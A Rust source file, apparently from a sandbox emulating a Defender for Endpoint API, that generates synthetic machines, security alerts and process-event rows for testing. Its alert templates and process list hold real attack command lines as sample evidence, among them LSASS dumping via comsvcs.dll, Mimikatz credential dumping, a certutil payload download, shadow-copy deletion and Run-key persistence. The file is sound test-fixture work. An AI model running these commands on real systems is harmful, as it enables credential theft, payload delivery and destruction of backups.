//! The seeded synthetic tenant: apps, machines, alerts with evidence, and hunting rows consistent with them.
//! Identifiers and offsets come from the seed; timestamps are relative to the start time, so "last 7 days" queries
//! always find data.

use std::collections::HashMap;

use chrono::{DateTime, Duration, Utc};
use rand::seq::IndexedRandom;
use rand::{Rng, RngCore, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::{json, Map, Value};

use crate::auth::{App, Signer, GRAPH_HUNTING_ROLE, GRAPH_SECURITY_ROLES, MDE_ROLES};
use crate::config::{SandboxConfig, SandboxError};
use crate::hunting::{known_schema, Tables};
use crate::state::{Parts, State, Store};
use crate::synth_common::{file_hashes, hex, schema_row, USERS};
use crate::time::{dotnet_ticks, fmt7};

type Rng8 = ChaCha8Rng;

fn guid(rng: &mut Rng8) -> String {
    let mut b = [0u8; 16];
    rng.fill_bytes(&mut b);
    uuid::Builder::from_random_bytes(b).into_uuid().to_string()
}

fn weighted<'a, T>(rng: &mut Rng8, items: &'a [(T, u32)]) -> &'a T {
    let total: u32 = items.iter().map(|(_, w)| w).sum();
    let mut x = rng.random_range(0..total.max(1));
    for (item, w) in items {
        if x < *w {
            return item;
        }
        x -= w;
    }
    &items[items.len() - 1].0
}

fn ago(rng: &mut Rng8, now: DateTime<Utc>, max_secs: i64) -> DateTime<Utc> {
    now - Duration::seconds(rng.random_range(0..max_secs.max(1)))
        - Duration::nanoseconds(rng.random_range(0..10_000_000) * 100)
}

pub fn build(config: SandboxConfig, base_url: String) -> Result<State, SandboxError> {
    let now = Utc::now();
    let mut rng = Rng8::seed_from_u64(config.seed);
    let tenant_id = guid(&mut rng);
    let client_id = guid(&mut rng);
    let secret_tail: String = (0..34)
        .map(|_| {
            char::from(
                b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-"
                    [rng.random_range(0..65)],
            )
        })
        .collect();
    let client_secret = format!("Sbx8Q~{secret_tail}");
    let mut roles: Vec<String> = MDE_ROLES.iter().map(|r| r.to_string()).collect();
    roles.push(GRAPH_HUNTING_ROLE.to_string());
    roles.extend(GRAPH_SECURITY_ROLES.iter().map(|r| r.to_string()));
    let mut apps = HashMap::new();
    apps.insert(
        client_id.to_ascii_lowercase(),
        App {
            secret: client_secret.clone(),
            roles,
            object_id: guid(&mut rng),
            ..Default::default()
        },
    );

    let mut key = vec![0u8; 32];
    rand::rng().fill_bytes(&mut key);

    let loaded = crate::load::load_all(&config.load)?;
    let mut alerts = Store::default();
    let mut machines = Store::default();
    let mut tables = Tables::default();
    for a in loaded.alerts {
        alerts.push(a);
    }
    let mut vulnerabilities = Store::default();
    for v in loaded.vulnerabilities {
        vulnerabilities.push(v);
    }
    for m in loaded.machines {
        machines.push(m);
    }
    for t in loaded.tables {
        tables.append(&t.name, t.columns, t.rows);
    }

    if config.synthetic {
        let ms = machines_for(&mut rng, config.machines, now);
        let al = alerts_for(&mut rng, config.alerts, &ms, &tenant_id, now);
        device_info(&mut tables, &ms);
        process_events(&mut rng, &mut tables, &ms, now);
        alert_info(&mut tables, &al);
        crate::synth_hunting::build(config.seed, &mut tables, &ms, &al, now);
        for m in ms {
            machines.push(m);
        }
        for a in al {
            alerts.push(a);
        }
    }

    Ok(State::new(Parts {
        config,
        base_url,
        tenant_id,
        client_id,
        client_secret,
        signer: Signer::new(key),
        apps,
        alerts,
        machines,
        vulnerabilities,
        tables,
    }))
}

const DEPTS: &[(&str, &str)] = &[
    ("fin", "Finance"),
    ("hr", "Human Resources"),
    ("eng", "Engineering"),
    ("ops", "Operations"),
    ("sales", "Sales"),
    ("it", "IT"),
    ("legal", "Legal"),
    ("mkt", "Marketing"),
];

struct Os {
    platform: &'static str,
    prefix: &'static str,
    versions: &'static [&'static str],
    build: Option<i64>,
    agent: &'static str,
}

const OSES: &[(Os, u32)] = &[
    (
        Os {
            platform: "Windows10",
            prefix: "ws",
            versions: &["21H2", "22H2"],
            build: Some(19045),
            agent: "10.8760.19045.4046",
        },
        40,
    ),
    (
        Os {
            platform: "Windows11",
            prefix: "ws",
            versions: &["22H2", "23H2"],
            build: Some(22631),
            agent: "10.8760.22631.3155",
        },
        30,
    ),
    (
        Os {
            platform: "WindowsServer2019",
            prefix: "srv",
            versions: &["1809"],
            build: Some(17763),
            agent: "10.8760.17763.5458",
        },
        8,
    ),
    (
        Os {
            platform: "WindowsServer2022",
            prefix: "srv",
            versions: &["21H2"],
            build: Some(20348),
            agent: "10.8760.20348.2322",
        },
        10,
    ),
    (
        Os {
            platform: "Linux",
            prefix: "lnx",
            versions: &["22.04", "9.3"],
            build: None,
            agent: "101.24012.0001",
        },
        7,
    ),
    (
        Os {
            platform: "macOS",
            prefix: "mac",
            versions: &["14.3", "13.6"],
            build: None,
            agent: "101.23122.0005",
        },
        5,
    ),
];

fn machines_for(rng: &mut Rng8, n: usize, now: DateTime<Utc>) -> Vec<Map<String, Value>> {
    let tags = ["VIP", "Finance", "PCI", "Pilot", "Kiosk", "Developer"];
    (0..n)
        .map(|i| {
            let os = weighted(rng, OSES);
            let dept_idx = rng.random_range(0..DEPTS.len());
            let (dept, dept_name) = DEPTS[dept_idx];
            let name = format!("{}-{dept}-{:04}.contoso.local", os.prefix, i + 1);
            let health = *weighted(rng, &[("Active", 85), ("Inactive", 8), ("ImpairedCommunication", 3), ("NoSensorData", 2), ("NoSensorDataImpairedCommunication", 1), ("Unknown", 1)]);
            let last_seen = if health == "Inactive" { ago(rng, now - Duration::days(8), 22 * 86_400) } else { ago(rng, now, 72 * 3600) };
            let first_seen = ago(rng, last_seen - Duration::days(30), 370 * 86_400);
            let server = os.prefix == "srv";
            let windows = os.platform.starts_with("Windows");
            let (group_id, group_name) = if rng.random_bool(0.1) {
                (0, "UnassignedGroup".to_string())
            } else {
                (100 + dept_idx as i64 * 10 + i64::from(server), format!("{dept_name} {}", if server { "Servers" } else { "Workstations" }))
            };
            let ip = format!("10.{}.{}.{}", 10 + dept_idx, rng.random_range(0..64), rng.random_range(2..254));
            let mac: String = hex(rng, 12).to_uppercase();
            let aad = windows && !server && rng.random_bool(0.8);
            let tag_count = rng.random_range(0..3);
            let mut mtags: Vec<&str> = tags.choose_multiple(rng, tag_count).copied().collect();
            mtags.sort_unstable();
            let vm = if server && rng.random_bool(0.6) {
                json!({"vmId": guid(rng), "cloudProvider": "Azure", "resourceId": format!("/subscriptions/{}/resourceGroups/rg-{dept}/providers/Microsoft.Compute/virtualMachines/{}", guid(rng), name.split('.').next().unwrap_or_default()), "subscriptionId": guid(rng)})
            } else {
                Value::Null
            };
            let external_ip = format!("{}.{}.{}.{}", [20, 40, 52, 104][rng.random_range(0..4)], rng.random_range(0..255), rng.random_range(0..255), rng.random_range(1..255));
            let mut ips = vec![json!({"ipAddress": ip, "macAddress": mac, "type": "Ethernet", "operationalStatus": "Up"})];
            if windows {
                ips.push(json!({"ipAddress": "127.0.0.1", "macAddress": null, "type": "SoftwareLoopback", "operationalStatus": "Up"}));
            }
            let v = json!({
                "id": hex(rng, 40),
                "mergedIntoMachineId": null,
                "isPotentialDuplication": false,
                "isExcluded": false,
                "exclusionReason": null,
                "computerDnsName": name,
                "firstSeen": fmt7(first_seen),
                "lastSeen": fmt7(last_seen),
                "osPlatform": os.platform,
                "osVersion": if windows { Value::Null } else { json!(os.versions[0]) },
                "osProcessor": "x64",
                "version": os.versions.choose(rng).copied().unwrap_or_default(),
                "lastIpAddress": ip,
                "lastExternalIpAddress": external_ip,
                "agentVersion": os.agent,
                "osBuild": os.build,
                "healthStatus": health,
                "deviceValue": weighted(rng, &[("Normal", 85), ("High", 10), ("Low", 5)]),
                "rbacGroupId": group_id,
                "rbacGroupName": group_name,
                "riskScore": weighted(rng, &[("None", 40), ("Informational", 10), ("Low", 20), ("Medium", 20), ("High", 10)]),
                "exposureLevel": weighted(rng, &[("None", 10), ("Low", 40), ("Medium", 40), ("High", 10)]),
                "isAadJoined": aad,
                "aadDeviceId": if aad { json!(guid(rng)) } else { Value::Null },
                "machineTags": mtags,
                "defenderAvStatus": weighted(rng, &[("Updated", 90), ("NotUpdated", 8), ("Disabled", 2)]),
                "onboardingStatus": "Onboarded",
                "osArchitecture": "64-bit",
                "managedBy": weighted(rng, &[("Intune", 70), ("MicrosoftDefenderForEndpoint", 20), ("ConfigurationManager", 10)]),
                "managedByStatus": weighted(rng, &[("Success", 80), ("Unknown", 20)]),
                "ipAddresses": ips,
                "vmMetadata": vm,
            });
            v.as_object().cloned().unwrap_or_default()
        })
        .collect()
}

struct Template {
    category: &'static str,
    title: &'static str,
    description: &'static str,
    mitre: &'static [&'static str],
    threat: Option<(&'static str, &'static str)>,
    file: &'static str,
    command: &'static str,
}

const TEMPLATES: &[Template] = &[
    Template { category: "Execution", title: "Suspicious PowerShell command line", description: "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.", mitre: &["T1059.001"], threat: None, file: "powershell.exe", command: "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" },
    Template { category: "CredentialAccess", title: "Suspicious access to LSASS service", description: "A process accessed the memory of the LSASS service, a technique used to steal credentials.", mitre: &["T1003.001"], threat: None, file: "rundll32.exe", command: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full" },
    Template { category: "Malware", title: "'Mimikatz' hacktool was detected", description: "Readily available tools, such as hacking programs, can be used by unauthorized individuals to spy on users.", mitre: &["T1003"], threat: Some(("Mimikatz", "HackTool:Win32/Mimikatz")), file: "mimikatz.exe", command: "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit" },
    Template { category: "DefenseEvasion", title: "Suspicious process injection observed", description: "A process injected code into another process, a technique used to evade defenses.", mitre: &["T1055"], threat: None, file: "svchost.exe", command: "svchost.exe -k netsvcs" },
    Template { category: "Persistence", title: "Anomaly detected in ASEP registry", description: "A process registered a suspicious command or file in an auto-start registry key.", mitre: &["T1547.001"], threat: None, file: "reg.exe", command: "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v updater /d C:\\Users\\Public\\upd.exe" },
    Template { category: "Discovery", title: "Suspicious sequence of exploration activities", description: "A process called a set of Windows commands used to explore the network and domain.", mitre: &["T1087.002", "T1069.002", "T1016"], threat: None, file: "net.exe", command: "net.exe group \"Domain Admins\" /domain" },
    Template { category: "LateralMovement", title: "Suspicious remote service creation", description: "A service was created on a remote machine, a technique used for lateral movement.", mitre: &["T1021.002", "T1569.002"], threat: None, file: "sc.exe", command: "sc.exe \\\\srv-fin-0001 create upd binPath= C:\\Windows\\Temp\\upd.exe" },
    Template { category: "Ransomware", title: "Ransomware behavior detected in the file system", description: "A process encrypted many files in a short time and appended a new extension.", mitre: &["T1486", "T1490"], threat: Some(("Lockbit", "Ransom:Win32/Lockbit")), file: "vssadmin.exe", command: "vssadmin.exe delete shadows /all /quiet" },
    Template { category: "CommandAndControl", title: "Connection to a custom network indicator", description: "A process connected to a network indicator defined by your organization.", mitre: &["T1071.001"], threat: None, file: "msedge.exe", command: "msedge.exe --single-argument https://update-check.example.net/" },
    Template { category: "InitialAccess", title: "Suspicious Office macro", description: "An Office document ran a macro that launched a suspicious process.", mitre: &["T1566.001", "T1204.002"], threat: None, file: "winword.exe", command: "WINWORD.EXE /n \"C:\\Users\\Public\\Invoice_0042.docm\"" },
    Template { category: "SuspiciousActivity", title: "Suspicious file dropped and launched", description: "A file downloaded from the internet was written to disk and run.", mitre: &["T1204.002", "T1105"], threat: None, file: "certutil.exe", command: "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe" },
    Template { category: "Malware", title: "An active 'Emotet' malware was detected", description: "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful actions.", mitre: &["T1204"], threat: Some(("Emotet", "Trojan:Win32/Emotet")), file: "invoice.exe", command: "invoice.exe" },
];

fn evidence_item(kind: &str, created: DateTime<Utc>) -> Map<String, Value> {
    let keys = [
        "entityType",
        "evidenceCreationTime",
        "sha1",
        "sha256",
        "fileName",
        "filePath",
        "processId",
        "processCommandLine",
        "processCreationTime",
        "parentProcessId",
        "parentProcessCreationTime",
        "parentProcessFileName",
        "parentProcessFilePath",
        "ipAddress",
        "url",
        "registryKey",
        "registryHive",
        "registryValueType",
        "registryValue",
        "accountName",
        "domainName",
        "userSid",
        "aadUserId",
        "userPrincipalName",
        "detectionStatus",
    ];
    let mut m: Map<String, Value> = keys.iter().map(|k| (k.to_string(), Value::Null)).collect();
    m.insert("entityType".into(), json!(kind));
    m.insert("evidenceCreationTime".into(), json!(fmt7(created)));
    m
}

fn alerts_for(
    rng: &mut Rng8,
    n: usize,
    machines: &[Map<String, Value>],
    tenant: &str,
    now: DateTime<Utc>,
) -> Vec<Map<String, Value>> {
    let detectors: Vec<String> = TEMPLATES.iter().map(|_| guid(rng)).collect();
    let mut incident = 1000 + rng.random_range(0..5000);
    let mut out: Vec<(DateTime<Utc>, Map<String, Value>)> = Vec::with_capacity(n);
    for _ in 0..n {
        let ti = rng.random_range(0..TEMPLATES.len());
        let t = &TEMPLATES[ti];
        let created = ago(rng, now, 30 * 86_400);
        let first = created
            - Duration::seconds(rng.random_range(30..900))
            - Duration::nanoseconds(rng.random_range(0..10_000_000) * 100);
        let last = first + Duration::milliseconds(rng.random_range(0..20_000));
        let updated = (created + Duration::seconds(rng.random_range(1..5 * 86_400))).min(now);
        if rng.random_bool(0.6) {
            incident += 1;
        }
        let severity = if t.threat.is_some() {
            *weighted(rng, &[("Medium", 30), ("High", 70)])
        } else {
            *weighted(
                rng,
                &[
                    ("Informational", 15),
                    ("Low", 30),
                    ("Medium", 35),
                    ("High", 20),
                ],
            )
        };
        let status = *weighted(rng, &[("New", 50), ("InProgress", 20), ("Resolved", 30)]);
        let (classification, determination) = if status == "Resolved" {
            match rng.random_range(0..3) {
                0 => (
                    json!("TruePositive"),
                    json!(*[
                        "Malware",
                        "MultiStagedAttack",
                        "MaliciousUserActivity",
                        "Other"
                    ]
                    .choose(rng)
                    .unwrap_or(&"Other")),
                ),
                1 => (
                    json!("FalsePositive"),
                    json!(*["Clean", "InsufficientData", "Other"]
                        .choose(rng)
                        .unwrap_or(&"Other")),
                ),
                _ => (
                    json!("InformationalExpectedActivity"),
                    json!(*[
                        "SecurityTesting",
                        "LineOfBusinessApplication",
                        "ConfirmedUserActivity"
                    ]
                    .choose(rng)
                    .unwrap_or(&"Other")),
                ),
            }
        } else {
            (Value::Null, Value::Null)
        };
        let investigation = rng
            .random_bool(0.5)
            .then(|| rng.random_range(10_000..99_999));
        let inv_state = match (investigation, status) {
            (None, _) => *["UnsupportedAlertType", "Queued", "PendingApproval"]
                .choose(rng)
                .unwrap_or(&"Queued"),
            (Some(_), "Resolved") => *["SuccessfullyRemediated", "Benign", "PartiallyRemediated"]
                .choose(rng)
                .unwrap_or(&"Benign"),
            (Some(_), _) => *["Running", "PendingResource", "PartiallyInvestigated"]
                .choose(rng)
                .unwrap_or(&"Running"),
        };
        let source = *weighted(
            rng,
            &[
                ("WindowsDefenderAtp", 50),
                ("WindowsDefenderAv", 25),
                ("CustomerTI", 5),
                ("CustomDetection", 5),
                ("AutomatedInvestigation", 5),
                ("WindowsDefenderSmartScreen", 5),
                ("MTP", 5),
            ],
        );
        let machine = machines.choose(rng);
        let field = |k: &str| {
            machine
                .and_then(|m| m.get(k))
                .cloned()
                .unwrap_or(Value::Null)
        };
        let user = *USERS.choose(rng).unwrap_or(&"adele.vance");
        let related_user = if rng.random_bool(0.85) {
            json!({"userName": user, "domainName": "CONTOSO"})
        } else {
            Value::Null
        };
        let assigned = if status == "New" && rng.random_bool(0.7) {
            Value::Null
        } else {
            json!(format!("secop{}@contoso.com", rng.random_range(1..6)))
        };
        let mut comments = Vec::new();
        const NOTES: [&str; 4] = [
            "Investigating",
            "Escalated to tier 2",
            "Confirmed with the device owner",
            "Closing after review",
        ];
        for c in 0..rng.random_range(0..3) {
            let note = NOTES[c % NOTES.len()];
            comments.push(json!({
                "comment": note,
                "createdBy": format!("secop{}@contoso.com", rng.random_range(1..6)),
                "createdTime": fmt7(created + Duration::seconds(rng.random_range(60..86_400))),
            }));
        }
        let suffix: i32 = rng.random();
        let id = format!("da{}_{}", dotnet_ticks(created), suffix);
        let ev_time = created + Duration::milliseconds(rng.random_range(100..2000));
        let (sha1, sha256, _) = file_hashes(t.file);
        let mut evidence = Vec::new();
        if !related_user.is_null() {
            let mut u = evidence_item("User", ev_time);
            u.insert("accountName".into(), json!(user));
            u.insert("domainName".into(), json!("CONTOSO"));
            u.insert(
                "userSid".into(),
                json!(format!(
                    "S-1-5-21-1004336348-1177238915-682003330-{}",
                    1100 + USERS.iter().position(|x| *x == user).unwrap_or(0)
                )),
            );
            u.insert("aadUserId".into(), json!(guid(rng)));
            u.insert(
                "userPrincipalName".into(),
                json!(format!("{user}@contoso.com")),
            );
            evidence.push(u);
        }
        let detection = *weighted(rng, &[("Detected", 60), ("Prevented", 25), ("Blocked", 15)]);
        let mut p = evidence_item("Process", ev_time);
        let folder = if t.file == "invoice.exe" || t.file == "mimikatz.exe" {
            "C:\\Users\\Public"
        } else {
            "C:\\Windows\\System32"
        };
        p.insert("sha1".into(), json!(sha1));
        p.insert("sha256".into(), json!(sha256));
        p.insert("fileName".into(), json!(t.file));
        p.insert("filePath".into(), json!(folder));
        p.insert("processId".into(), json!(rng.random_range(400..12_000)));
        p.insert("processCommandLine".into(), json!(t.command));
        p.insert("processCreationTime".into(), json!(fmt7(first)));
        p.insert(
            "parentProcessId".into(),
            json!(rng.random_range(400..12_000)),
        );
        p.insert(
            "parentProcessCreationTime".into(),
            json!(fmt7(first - Duration::seconds(rng.random_range(1..3600)))),
        );
        p.insert(
            "parentProcessFileName".into(),
            json!(if t.file == "powershell.exe" {
                "cmd.exe"
            } else {
                "explorer.exe"
            }),
        );
        p.insert(
            "parentProcessFilePath".into(),
            json!("C:\\Windows\\System32"),
        );
        p.insert("detectionStatus".into(), json!(detection));
        evidence.push(p);
        if t.threat.is_some() || rng.random_bool(0.4) {
            let mut f = evidence_item("File", ev_time);
            f.insert("sha1".into(), json!(sha1));
            f.insert("sha256".into(), json!(sha256));
            f.insert("fileName".into(), json!(t.file));
            f.insert("filePath".into(), json!(folder));
            f.insert("detectionStatus".into(), json!(detection));
            evidence.push(f);
        }
        let v = json!({
            "id": id,
            "incidentId": incident,
            "investigationId": investigation,
            "assignedTo": assigned,
            "severity": severity,
            "status": status,
            "classification": classification,
            "determination": determination,
            "investigationState": inv_state,
            "detectionSource": source,
            "detectorId": detectors[ti],
            "category": t.category,
            "threatFamilyName": t.threat.map(|x| x.0),
            "title": t.title,
            "description": t.description,
            "alertCreationTime": fmt7(created),
            "firstEventTime": fmt7(first),
            "lastEventTime": fmt7(last),
            "lastUpdateTime": fmt7(updated),
            "resolvedTime": if status == "Resolved" { json!(fmt7(updated)) } else { Value::Null },
            "machineId": field("id"),
            "computerDnsName": field("computerDnsName"),
            "rbacGroupName": field("rbacGroupName"),
            "aadTenantId": tenant,
            "threatName": t.threat.map(|x| x.1),
            "mitreTechniques": t.mitre,
            "relatedUser": related_user,
            "comments": comments,
            "evidence": evidence,
        });
        out.push((created, v.as_object().cloned().unwrap_or_default()));
    }
    out.sort_by_key(|(t, _)| *t);
    out.into_iter().map(|(_, v)| v).collect()
}

fn device_info(tables: &mut Tables, machines: &[Map<String, Value>]) {
    let Some(columns) = known_schema("DeviceInfo") else {
        return;
    };
    let rows = machines
        .iter()
        .enumerate()
        .map(|(i, m)| {
            let g = |k: &str| m.get(k).cloned().unwrap_or(Value::Null);
            let mut v = Map::new();
            v.insert("Timestamp".into(), g("lastSeen"));
            v.insert("DeviceId".into(), g("id"));
            v.insert("DeviceName".into(), g("computerDnsName"));
            v.insert("ClientVersion".into(), g("agentVersion"));
            v.insert("PublicIP".into(), g("lastExternalIpAddress"));
            v.insert("OSArchitecture".into(), g("osArchitecture"));
            v.insert("OSPlatform".into(), g("osPlatform"));
            v.insert("OSBuild".into(), g("osBuild"));
            v.insert("IsAzureADJoined".into(), g("isAadJoined"));
            v.insert(
                "JoinType".into(),
                json!(if g("isAadJoined") == json!(true) {
                    "AAD Joined"
                } else {
                    "Domain Joined"
                }),
            );
            v.insert("AadDeviceId".into(), g("aadDeviceId"));
            v.insert("LoggedOnUsers".into(), json!([]));
            v.insert("OSVersion".into(), g("version"));
            v.insert("MachineGroup".into(), g("rbacGroupName"));
            v.insert("ReportId".into(), json!(10_000 + i as i64));
            v.insert("OnboardingStatus".into(), g("onboardingStatus"));
            v.insert("AdditionalFields".into(), json!({}));
            v.insert("DeviceCategory".into(), json!("Endpoint"));
            v.insert(
                "DeviceType".into(),
                json!(if m
                    .get("computerDnsName")
                    .and_then(Value::as_str)
                    .is_some_and(|n| n.starts_with("srv"))
                {
                    "Server"
                } else {
                    "Workstation"
                }),
            );
            v.insert("SensorHealthState".into(), g("healthStatus"));
            v.insert("IsExcluded".into(), g("isExcluded"));
            v.insert("ExposureLevel".into(), g("exposureLevel"));
            v.insert("AssetValue".into(), g("deviceValue"));
            v.insert("DeviceManualTags".into(), g("machineTags"));
            v.insert("DeviceDynamicTags".into(), json!([]));
            v.insert("IsInternetFacing".into(), json!(false));
            schema_row(&columns, v)
        })
        .collect();
    tables.append("DeviceInfo", columns, rows);
}

struct Proc {
    file: &'static str,
    folder: &'static str,
    command: &'static str,
    parent: &'static str,
    description: &'static str,
    system: bool,
}

const PROCS: &[(Proc, u32)] = &[
    (Proc { file: "svchost.exe", folder: "C:\\Windows\\System32", command: "svchost.exe -k netsvcs -p -s Schedule", parent: "services.exe", description: "Host Process for Windows Services", system: true }, 20),
    (Proc { file: "conhost.exe", folder: "C:\\Windows\\System32", command: "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", parent: "cmd.exe", description: "Console Window Host", system: true }, 15),
    (Proc { file: "msedge.exe", folder: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application", command: "\"msedge.exe\" --type=renderer --lang=en-US", parent: "explorer.exe", description: "Microsoft Edge", system: false }, 15),
    (Proc { file: "powershell.exe", folder: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", command: "powershell.exe -NoProfile -Command Get-Service", parent: "cmd.exe", description: "Windows PowerShell", system: false }, 8),
    (Proc { file: "powershell.exe", folder: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", command: "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", parent: "winword.exe", description: "Windows PowerShell", system: false }, 1),
    (Proc { file: "cmd.exe", folder: "C:\\Windows\\System32", command: "cmd.exe /c whoami /all", parent: "explorer.exe", description: "Windows Command Processor", system: false }, 5),
    (Proc { file: "whoami.exe", folder: "C:\\Windows\\System32", command: "whoami /all", parent: "cmd.exe", description: "whoami - displays logged on user information", system: false }, 3),
    (Proc { file: "net.exe", folder: "C:\\Windows\\System32", command: "net.exe group \"Domain Admins\" /domain", parent: "cmd.exe", description: "Net Command", system: false }, 2),
    (Proc { file: "certutil.exe", folder: "C:\\Windows\\System32", command: "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe", parent: "cmd.exe", description: "CertUtil.exe", system: false }, 1),
    (Proc { file: "rundll32.exe", folder: "C:\\Windows\\System32", command: "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL", parent: "explorer.exe", description: "Windows host process (Rundll32)", system: false }, 4),
    (Proc { file: "MsMpEng.exe", folder: "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0", command: "\"MsMpEng.exe\"", parent: "services.exe", description: "Antimalware Service Executable", system: true }, 6),
    (Proc { file: "sc.exe", folder: "C:\\Windows\\System32", command: "sc.exe start wuauserv", parent: "svchost.exe", description: "Service Control Manager Configuration Tool", system: true }, 4),
    (Proc { file: "ngen.exe", folder: "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319", command: "ngen.exe install System.Management.Automation", parent: "mscorsvw.exe", description: "Microsoft Common Language Runtime native compiler", system: true }, 4),
    (Proc { file: "OUTLOOK.EXE", folder: "C:\\Program Files\\Microsoft Office\\root\\Office16", command: "\"OUTLOOK.EXE\"", parent: "explorer.exe", description: "Microsoft Outlook", system: false }, 6),
];

fn process_events(
    rng: &mut Rng8,
    tables: &mut Tables,
    machines: &[Map<String, Value>],
    now: DateTime<Utc>,
) {
    let Some(columns) = known_schema("DeviceProcessEvents") else {
        return;
    };
    let windows: Vec<&Map<String, Value>> = machines
        .iter()
        .filter(|m| {
            m.get("osPlatform")
                .and_then(Value::as_str)
                .is_some_and(|p| p.starts_with("Windows"))
        })
        .collect();
    if windows.is_empty() {
        return;
    }
    let n = machines.len() * 6;
    let mut rows: Vec<(DateTime<Utc>, Map<String, Value>)> = Vec::with_capacity(n);
    for i in 0..n {
        let m = windows[rng.random_range(0..windows.len())];
        let p = weighted(rng, PROCS);
        let parent = PROCS.iter().map(|(x, _)| x).find(|x| x.file == p.parent);
        let ts = ago(rng, now, 30 * 86_400);
        let (sha1, sha256, md5) = file_hashes(p.file);
        let (psha1, psha256, pmd5) = file_hashes(p.parent);
        let user = *USERS.choose(rng).unwrap_or(&"adele.vance");
        let (domain, account, sid, upn, integrity) = if p.system {
            (
                "nt authority".to_string(),
                "system".to_string(),
                "S-1-5-18".to_string(),
                String::new(),
                "System",
            )
        } else {
            (
                "contoso".to_string(),
                user.to_string(),
                format!(
                    "S-1-5-21-1004336348-1177238915-682003330-{}",
                    1100 + USERS.iter().position(|x| *x == user).unwrap_or(0)
                ),
                format!("{user}@contoso.com"),
                "Medium",
            )
        };
        let g = |k: &str| m.get(k).cloned().unwrap_or(Value::Null);
        let pid = rng.random_range(400..20_000);
        let ppid = rng.random_range(400..20_000);
        let logon = if p.system {
            999
        } else {
            rng.random_range(100_000..9_999_999)
        };
        let mut v = Map::new();
        let mut put = |k: &str, val: Value| {
            v.insert(k.to_string(), val);
        };
        put("Timestamp", json!(fmt7(ts)));
        put("DeviceId", g("id"));
        put("DeviceName", g("computerDnsName"));
        put("ActionType", json!("ProcessCreated"));
        put("FileName", json!(p.file));
        put("FolderPath", json!(format!("{}\\{}", p.folder, p.file)));
        put("SHA1", json!(sha1));
        put("SHA256", json!(sha256));
        put("MD5", json!(md5));
        put(
            "FileSize",
            json!(50_000 + (sha1.len() * 7919 + p.file.len() * 104_729) as i64),
        );
        put(
            "ProcessVersionInfoCompanyName",
            json!("Microsoft Corporation"),
        );
        put(
            "ProcessVersionInfoProductName",
            json!("Microsoft® Windows® Operating System"),
        );
        put("ProcessVersionInfoProductVersion", json!("10.0.19041.1"));
        put("ProcessVersionInfoInternalFileName", json!(p.file));
        put("ProcessVersionInfoOriginalFileName", json!(p.file));
        put("ProcessVersionInfoFileDescription", json!(p.description));
        put("ProcessId", json!(pid));
        put("ProcessCommandLine", json!(p.command));
        put("ProcessIntegrityLevel", json!(integrity));
        put("ProcessTokenElevation", json!("TokenElevationTypeDefault"));
        put("ProcessCreationTime", json!(fmt7(ts)));
        put("AccountDomain", json!(domain));
        put("AccountName", json!(account));
        put("AccountSid", json!(sid));
        put("AccountUpn", json!(upn));
        put("AccountObjectId", json!(""));
        put("LogonId", json!(logon));
        put("InitiatingProcessAccountDomain", json!(domain));
        put("InitiatingProcessAccountName", json!(account));
        put("InitiatingProcessAccountSid", json!(sid));
        put("InitiatingProcessAccountUpn", json!(upn));
        put("InitiatingProcessAccountObjectId", json!(""));
        put("InitiatingProcessLogonId", json!(logon));
        put("InitiatingProcessIntegrityLevel", json!(integrity));
        put(
            "InitiatingProcessTokenElevation",
            json!("TokenElevationTypeDefault"),
        );
        put("InitiatingProcessSHA1", json!(psha1));
        put("InitiatingProcessSHA256", json!(psha256));
        put("InitiatingProcessMD5", json!(pmd5));
        put("InitiatingProcessFileName", json!(p.parent));
        put(
            "InitiatingProcessFileSize",
            json!(60_000 + p.parent.len() as i64 * 1_021),
        );
        put(
            "InitiatingProcessVersionInfoCompanyName",
            json!("Microsoft Corporation"),
        );
        put(
            "InitiatingProcessVersionInfoProductName",
            json!("Microsoft® Windows® Operating System"),
        );
        put(
            "InitiatingProcessVersionInfoProductVersion",
            json!("10.0.19041.1"),
        );
        put(
            "InitiatingProcessVersionInfoInternalFileName",
            json!(p.parent),
        );
        put(
            "InitiatingProcessVersionInfoOriginalFileName",
            json!(p.parent),
        );
        put(
            "InitiatingProcessVersionInfoFileDescription",
            json!(parent.map(|x| x.description).unwrap_or("")),
        );
        put("InitiatingProcessId", json!(ppid));
        put(
            "InitiatingProcessCommandLine",
            json!(parent.map(|x| x.command).unwrap_or(p.parent)),
        );
        put(
            "InitiatingProcessCreationTime",
            json!(fmt7(ts - Duration::seconds(rng.random_range(1..86_400)))),
        );
        put(
            "InitiatingProcessFolderPath",
            json!(parent
                .map(|x| x.folder)
                .unwrap_or("C:\\Windows\\System32")
                .to_lowercase()),
        );
        put(
            "InitiatingProcessParentId",
            json!(rng.random_range(4..2_000)),
        );
        put(
            "InitiatingProcessParentFileName",
            json!(if p.system {
                "wininit.exe"
            } else {
                "userinit.exe"
            }),
        );
        put(
            "InitiatingProcessParentCreationTime",
            json!(fmt7(ts - Duration::days(rng.random_range(1..20)))),
        );
        put("InitiatingProcessSignerType", json!("OsVendor"));
        put("InitiatingProcessSignatureStatus", json!("Valid"));
        put("ReportId", json!(20_000 + i as i64));
        put("AppGuardContainerId", json!(""));
        put("AdditionalFields", json!({}));
        rows.push((ts, schema_row(&columns, v)));
    }
